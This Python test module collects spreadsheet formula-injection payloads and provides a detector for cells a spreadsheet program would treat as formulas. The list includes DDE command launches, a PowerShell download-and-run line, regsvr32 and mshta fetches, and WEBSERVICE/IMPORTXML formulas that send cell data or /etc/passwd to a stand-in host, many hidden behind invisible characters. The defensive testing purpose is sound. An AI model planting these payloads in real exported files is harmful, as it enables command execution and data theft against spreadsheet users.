"""Texts that some spreadsheet program would run, or that hide such a text from a careless check."""

import re
import unicodedata

_PLAIN = """
=1+1
=1+1+cmd|' /C calc'!A0
=cmd|'/C calc.exe'!'A1'
+cmd|'/C calc'!A0
-cmd|'/C calc'!A0
@SUM(1+1)*cmd|'/C calc'!A0
@SUM(A1:A9)
+1+1
-1+1
-2+3+cmd|' /C calc'!A0
=2+5+cmd|'/C powershell IEX(wget example.invalid/x)'!A0
=DDE("cmd";"/C calc";"__DdeLink_60_870516294")
=DDEAUTO(c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe")
=MSEXCEL|'\\\\..\\\\..\\\\Windows\\\\System32\\\\cmd.exe /c calc.exe'!''
=rundll32|'URL.dll,OpenURL calc.exe'!A
=regsvr32|'/s /n /u /i:http://example.invalid/x.sct scrobj.dll'!A
=mshta|'http://example.invalid/x.hta'!A
=HYPERLINK("http://example.invalid?x="&A1&A2,"Bấm vào đây")
=HYPERLINK("#Sheet1!A1";"Xem")
=IMPORTXML(CONCAT("http://example.invalid/?v=",CONCATENATE(A2:E2)),"//a")
=IMPORTFEED(CONCAT("http://example.invalid/?v=",CONCATENATE(A2:E2)))
=IMPORTHTML(CONCAT("http://example.invalid/?v=",A2),"table",1)
=IMPORTRANGE("https://example.invalid/","Sheet1!A1:Z99")
=IMPORTDATA("http://example.invalid/x.csv")
=IMAGE("https://example.invalid/?v="&A2)
=WEBSERVICE("http://example.invalid/?"&A2)
=WEBSERVICE(CONCATENATE("http://example.invalid/",ENCODEURL('file:///etc/passwd'#$passwd.A1)))
='file:///etc/passwd'#$passwd.A1
=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.invalid","x",0,0)
=EXEC("calc.exe")
=REGISTER.ID("kernel32","WinExec")
=FILTERXML(WEBSERVICE("http://example.invalid"),"//x")
=INDIRECT("A1")
=GOOGLEFINANCE("X")
=QUERY(A:Z,"select *")
=RTD("x",,"y")
=EUROCONVERT(1,"A","B")
=SUM(1)*1|cmd'!A0
=A1
=R1C1
={1,2,3}
==1+1
=+1+1
=-1
=@A1
+@A1
-@A1
--1
+-+1
@@SUM(1)
@A1
+84912345678
+(84)912345678-cmd|'/C calc'!A0
-Quán cà phê
@quanan
'=1+1
''=1+1
"=1+1
""=1+1
"=1+1"
`=1+1
´=1+1
‘=1+1
“=1+1”
«=1+1»
{=1+1}
＝1+1
＋1+1
－1+1
＠SUM(1)
﹦1+1
﹢1+1
﹣1+1
﹫SUM(1)
⁺1
⁼1+1
₊1
₌1+1
−1+1
＝cmd｜'/C calc'!A0
Chợ;=1+1
Chợ;  =cmd|'/C calc'!A0
Chợ;+1;-1;@A1
Chợ；＝1+1
Chợ;"=1+1"
","=1+1","
",=cmd|'/C calc'!A0,"
"";=cmd|'/C calc'!A0;""
<b>=1+1</b>
%0A=1+1
\\n=1+1
sep=;
""".strip().splitlines()

_UNSEEN = (
    " ", "   ", "\t", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\xa0", "\xad",
    "\u034f", "\u061c", "\u1680", "\u180e", "\u2003", "\u200b", "\u200d", "\u200e", "\u2028",
    "\u2029", "\u202e", "\u202f", "\u205f", "\u2060", "\u2066", "\u2800", "\u3000", "\u3164",
    "\ufe0f", "\ufeff", "\ufff9", "\uffff", "\U000e0020", "\U000e0100", "\U0001d173", "\u200b \t\ufeff", "'\u200b", "\u200b'", '\ufeff"',
)  # fmt: skip
_BEHIND = (
    "Chợ\n=1+1", "Chợ\r\n=1+1", "Chợ\r=1+1", "Chợ\t=1+1", "Chợ\u2028=1+1", "Chợ;\n=1+1",
    'Chợ"\n=1+1', "Chợ;\u200b=1+1", "\"\r\n=cmd|'/C calc'!A0\r\n\"", "Chợ\x85=1+1",
)  # fmt: skip

PAYLOADS = [
    *_PLAIN,
    *(f"{unseen}=cmd|'/C calc'!A0" for unseen in _UNSEEN),
    *(f"{unseen}@SUM(1)" for unseen in _UNSEEN[:6]),
    *_BEHIND,
]
HARMLESS = [
    "Chợ Trà Vinh", "12 Bạch Đằng", "Quán A - B", "P.1, TP Trà Vinh", "Quán 24/7", "a=b", "1 + 1",
    "Nhà thuốc; quầy số 2", "ផ្សារ\u200bធំ", "Café “Mộc”", "2 @ 3", "(+84)", "/etc",
]  # fmt: skip

# What programs leave out of a cell's beginning before they look for a formula; an apostrophe of
# ours is a character of the text and ends the search.
_LEFT_OUT = re.compile(
    r"[\s\x00-\x1f\x7f-\xa0\xad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202f"
    r"\u205f-\u206f\u2800\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff9-\uffff"
    r"\U0001d173-\U0001d17a\U000e0000-\U000e0fff\"`´‘’“”«»{]*"
)


def is_live(cell: str) -> bool:
    """Whether a spreadsheet program might take a cell for a formula; numbers are none."""
    begins = _LEFT_OUT.sub("", cell, count=1)
    if re.fullmatch(r"-?[0-9.,%]*", cell):
        return False
    return unicodedata.normalize("NFKC", begins[:1])[:1] in {"=", "+", "-", "@", "\u2212"}
